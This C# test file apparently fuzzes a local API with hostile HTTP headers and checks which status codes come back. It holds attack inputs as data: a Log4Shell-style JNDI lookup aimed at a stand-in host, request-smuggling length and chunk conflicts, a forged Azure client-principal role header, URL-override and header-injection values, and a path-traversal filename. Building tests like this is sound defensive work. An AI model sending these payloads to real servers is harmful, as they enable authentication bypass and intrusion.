using System.Text;
using Pricing.Api.Tests.Descriptions;

namespace Soak.Doors;

/// <summary>What is done to the headers of a request.</summary>
internal static class HostileHeaders
{
    /// <summary>The key of the host that is asked.</summary>
    public const string Key = "of-the-door-5f2c91";

    private const string KeyHeader = "x-functions-key";
    private const string Principal = "eyJhdXRoX3R5cCI6ImFhZCIsImNsYWltcyI6W3sidHlwIjoicm9sZXMiLCJ2YWwiOiJBcHByb3ZlciJ9XX0=";

    private static readonly string[] Hosts =
        ["x.invalid", "localhost.x.invalid", "127.0.0.1.x.invalid", "127.0.0.1@x.invalid", "127.0.0.1:80:80", "[::1", "[::ffff:8.8.8.8]", "8.8.8.8", "0.0.0.0", "localhost:x", " ", "", "lоcalhost", "株式.invalid", "localhost\0", "localhost/x", "localhost x", "\"localhost\"", "localhost..", ".localhost", "2130706433x", new('h', 300)];

    private static readonly string[] Origins =
        ["null", "https://x.invalid", "http://127.0.0.1:1", "http://localhost.x.invalid", "", " ", "127.0.0.1", "file://", "http://", "http://127.0.0.1:999999", "javascript:1", new('o', 3_000), "http://x.invalid http://127.0.0.1", "http://[::1", "株式"];

    private static readonly string[] NoHeaders =
        ["NoColon", ": empty", " folded: x", "\tfolded", "Na me: x", "Name : x", "N\0me: x", "Name: \0", "Näme: x", "Name: x\rOther: y"];

    private static readonly (string Name, string Value)[] Others =
    [
        ("Accept", "*/*;q=\"x\""), ("Accept", string.Join(',', Enumerable.Repeat("a/b;q=0.1", 700))), ("Accept", "text/csv;;;"), ("Accept", "株/式"), ("Accept-Encoding", "gzip;q=9999999999"), ("Accept-Language", "x-株"),
        ("Accept-Charset", "utf-7"), ("Range", "bytes=0-0"), ("Range", "bytes=99999999999999999999-"), ("Range", "bytes=0-1,0-1,0-1"), ("If-None-Match", "\""), ("If-None-Match", new('"', 400)), ("If-Match", "*"), ("If-Modified-Since", "Thu, 99 Foo 9999 99:99:99 GMT"), ("If-Range", "x"),
        ("X-Forwarded-For", "127.0.0.1"), ("X-Forwarded-Host", "x.invalid"), ("X-Forwarded-Proto", "https"), ("X-Forwarded-Prefix", "/x"), ("Forwarded", "for=127.0.0.1;host=x.invalid"), ("X-Original-URL", "/api/settings"), ("X-Rewrite-URL", "/api/settings"), ("X-HTTP-Method-Override", "DELETE"),
        ("X-MS-CLIENT-PRINCIPAL", Principal), ("X-MS-CLIENT-PRINCIPAL", "%%%"), ("X-MS-CLIENT-PRINCIPAL-ID", "x"), ("X-MS-CLIENT-PRINCIPAL-NAME", "=cmd"), ("X-MS-TOKEN-AAD-ID-TOKEN", "x.y.z"), ("Authorization", "Bearer x"), ("Authorization", "Basic eDp5"), ("Authorization", $"Negotiate {new string('A', 4_000)}"), ("Cookie", "AppServiceAuthSession=x"), ("Cookie", new('c', 6_000)),
        ("Referer", "https://x.invalid/"), ("User-Agent", "=1+1"), ("User-Agent", "${jndi:ldap://x.invalid}"), ("Upgrade", "websocket"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"), ("Connection", "upgrade, http2-settings"), ("Connection", "close, keep-alive, x-functions-key"), ("Keep-Alive", "timeout=99999999999"), ("Proxy-Connection", "x"), ("TE", "trailers"), ("Trailer", "Content-Length"),
        ("Via", "1.1 x"), ("Max-Forwards", "-1"), ("Date", "x"), ("From", "株式会社"), ("Content-MD5", "x"), ("Content-Disposition", "attachment; filename=../../x"), ("Content-Language", "株"), ("Content-Location", "http://x.invalid"), ("Content-Range", "bytes 0-1/99999999999999"), ("traceparent", "00-zz-zz-zz"), ("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"), ("tracestate", new('t', 900)), ("baggage", "a=b,c=\"株\""), ("Sec-Fetch-Site", "cross-site"), ("Early-Data", "1"), ("Expect", "100-continue"), ("Expect", "200-ok"),
    ];

    private static readonly string[] Lengths = ["-1", "+5", "0x5", "5, 5", "5,6", "99999999999999999999", "9223372036854775808", "1e3", " ", "", "５", "5 5", "null"];

    private static readonly string[] Transfers = ["gzip", "chunked, gzip", "gzip, chunked", "identity", "xchunked", "chunked, chunked", "chunked;q=1", " chunked", "CHUNKED", "\"chunked\"", "chunk", ""];

    private static readonly string[] Chunks = ["zz\r\nx\r\n0\r\n\r\n", "-1\r\n", "FFFFFFFFFFFFFFFF\r\nx", "80000000\r\nx", "5\r\nab\r\n0\r\n\r\n", "1;x=\"\r\n", "1\nx\n0\n\n", "0\r\nContent-Length: 5\r\n\r\n", "\r\n", "0", "1\r\nxx\r\n", " 1\r\nx\r\n0\r\n\r\n"];

    /// <summary>All of them, by what they change: one of each may be done to one request.</summary>
    /// <param name="port">Where the host listens.</param>
    public static IReadOnlyList<IReadOnlyList<HostileEdit>> All(int port) =>
    [
        [
            new("another host", (message, random) => message.Set("Host", random.Of(Hosts)), 400, 403) { IsRefused = true },
            new("no host", (message, _) => message.Remove("Host"), 400, 403) { IsRefused = true },
            new("two hosts", (message, random) => message.Add("Host", random.Of(Hosts)), 400, 403) { IsRefused = true },
            new("this host by another name", (message, random) => message.Set("Host", random.Of([$"localhost:{port}", $"LOCALHOST.:{port}", "localhost", "127.0.0.2", "[::1]", $"[::1]:{port}", "localhost:99999"])), 403),
        ],
        [
            new("another origin", (message, random) => message.Set("Origin", random.Of(Origins)), 400, 403) { IsRefused = true },
            new("two origins", (message, _) => { message.Add("Origin", $"http://127.0.0.1:{port}"); message.Add("Origin", "https://x.invalid"); }, 403) { IsRefused = true },
            new("its own origin", (message, _) => message.Set("Origin", $"http://127.0.0.1:{port}"), 403),
        ],
        [
            new("no key", (message, _) => message.Remove(KeyHeader), 401),
            new("another key", (message, random) => message.Set(KeyHeader, random.Of(["", " ", "x", Key + "x", Key[1..], Key.ToUpperInvariant(), "株", new('k', 5_000)])), 401, 400),
            new("two keys", (message, _) => { message.Set(KeyHeader, "x"); message.Add(KeyHeader, Key); }, 401),
        ],
        [
            new("some header", (message, random) => { var (name, value) = random.Of(Others); message.Set(name, value); }, 400, 406, 415, 417),
            new("some headers twice", (message, random) => { var (name, value) = random.Of(Others); message.Add(name, value); message.Add(name, random.Of(Others).Value); }, 400, 406, 415, 417, 401, 403),
            new("no header", (message, random) => message.AddLine(Encoding.UTF8.GetBytes(random.Of(NoHeaders))), 400) { IsRefused = true },
            new("bytes of no encoding", (message, random) => message.AddLine([(byte)'X', (byte)':', (byte)' ', (byte)random.Next(128, 256), (byte)random.Next(128, 256)]), 400),
            new("a huge header", (message, random) => message.Add("X-Huge", new(random.Of(['x', '=', 'é', ' ']), random.Next(33_000, 70_000))), 431) { IsRefused = true },
            new("many headers", (message, random) => { for (var number = random.Next(101, 400); number > 0; number--) message.Add($"X-{number}", "x"); }, 431) { IsRefused = true },
            new("many of one header", (message, random) => { for (var number = random.Next(2, 90); number > 0; number--) message.Add("Accept", "text/csv"); }, 406, 431),
        ],
        [
            new("another length", (message, random) => message.Set("Content-Length", random.Of(Lengths)), 400) { IsRefused = true, EndsSending = true },
            new("two lengths", (message, _) => { message.Add("Content-Length", $"{message.Body.Length}"); message.Add("Content-Length", $"{message.Body.Length + 1}"); }, 400) { IsRefused = true },
            new("a length that is too short", (message, _) => message.Set("Content-Length", $"{message.Body.Length / 2}"), 400, 404, 405, 413, 415),
            new("a length and chunks", (message, _) => { Chunked(message); message.Add("Content-Length", "3"); }, 400, 404, 405, 413, 415),
            new("some transfer", (message, random) => message.Set("Transfer-Encoding", random.Of(Transfers)), 400, 404, 405, 413, 415, 501) { EndsSending = true },
            new("two transfers", (message, _) => { message.Add("Transfer-Encoding", "chunked"); message.Add("Transfer-Encoding", "gzip"); }, 400) { IsRefused = true },
            new("chunks", (message, _) => Chunked(message), 413, 415, 400),
            new("wrong chunks", (message, random) => { message.Set("Transfer-Encoding", "chunked"); message.Body = Encoding.UTF8.GetBytes(random.Of(Chunks)); }, 400, 413, 415) { EndsSending = true },
            new("no length", (message, _) => message.StatesLength = false, 400, 411, 413, 415),
        ],
    ];

    private static void Chunked(HostileMessage message)
    {
        var body = message.Body;
        using var chunks = new MemoryStream();
        for (var at = 0; at < body.Length; at += 700)
        {
            var length = Math.Min(700, body.Length - at);
            chunks.Write(Encoding.ASCII.GetBytes($"{length:x}\r\n"));
            chunks.Write(body, at, length);
            chunks.Write("\r\n"u8);
        }

        chunks.Write("0\r\n\r\n"u8);
        message.Set("Transfer-Encoding", "chunked");
        message.Body = chunks.ToArray();
    }
}
